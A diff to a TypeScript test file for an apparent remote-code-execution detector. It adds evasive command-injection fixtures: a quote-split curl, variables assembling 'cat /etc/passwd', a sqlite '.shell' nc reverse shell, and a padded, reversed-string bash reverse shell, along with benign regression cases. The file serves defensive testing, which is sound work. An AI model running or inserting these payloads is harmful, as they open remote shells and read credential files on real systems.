@@ -55,6 +55,12 @@ const attacks: [string, string][] = [
   ["variables as commands", "a=nc&&$a -nlvp 555"],
   ["interpreter one-liner", "perl -e 'print 1'"],
   ["config management tool", "ansible-playbook site.yml\n"],
+  ["empty substitution inside a word", "pi$()ng 127.0.0.1"],
+  ["quote-split curl", "'c'url localhost"],
+  ["variables assembling a command", "c1=c;c2=a;c3=t;$c1$c2$c3 /etc/passwd"],
+  ["sqlite dot command", ";\n.shell nc 10.0.0.1 6666 -e sh"],
+  ["glued Windows switch", "view=image.jpg&bcdboot/r file.txt"],
+  ["padding then substitution", "A".repeat(5000) + ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)"],
 ];
 
 const benign: [string, string][] = [
@@ -78,6 +84,15 @@ const benign: [string, string][] = [
   ["time in prose", "time flies like an arrow"],
   ["JSON-ish braces", "{a:1,b:2}"],
   ["email", "jane.doe@example.com"],
+  // regression fixtures from the dev corpus's benign traffic
+  ["contraction that reads like id", "I'd love to go out with you, but I'm taking my high school equivalency test"],
+  ["wiki title naming a command", "chown notes"],
+  ["npm script chain running a project script", "tshy && bash scripts/build.sh"],
+  ["npm script removing build output", "rm -rf node_modules/ package-lock.json"],
+  ["shell substitution in connection-string docs", "Connect with postgres://$(whoami)@localhost/my_database to use your login name"],
+  ["bash docs on parameter expansion", "${parameter%%word} Remove matching suffix pattern. The word is expanded to produce a pattern just as in pathname expansion, and matched against the expanded value of parameter."],
+  ["analytics cookie", "GS1.1.1764658893.1.1.1764658893.60.0.0$o1$g1$t1764658893$j60$l0$h0"],
+  ["user agent of a text browser", "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)"],
 ];
 
 describe("rce detector", () => {
@@ -94,6 +109,15 @@ describe("rce detector", () => {
   it("blocks a lone recon command in a header but not a lone word in a field", () => {
     expect(rceScore("visudo", HEADER)).toBeGreaterThanOrEqual(5);
     expect(rceScore("lastlogin", ARG)).toBeLessThan(5);
+  });
+  it("blocks uploads named like server configuration files, not ordinary uploads", () => {
+    const FILENAME = 9;
+    const s = (name: string) => JSON.parse(h.callString("scanTarget", FILENAME, "files:file", name, 1)).score;
+    expect(s("wp-config.php")).toBeGreaterThanOrEqual(5);
+    expect(s("settings. php")).toBeGreaterThanOrEqual(5);
+    expect(s(".htaccess")).toBeGreaterThanOrEqual(5);
+    expect(s("package.json")).toBeLessThan(5);
+    expect(s("notes.txt")).toBeLessThan(5);
   });
   it("never traps on random bytes", () => {
     let seed = 12345;
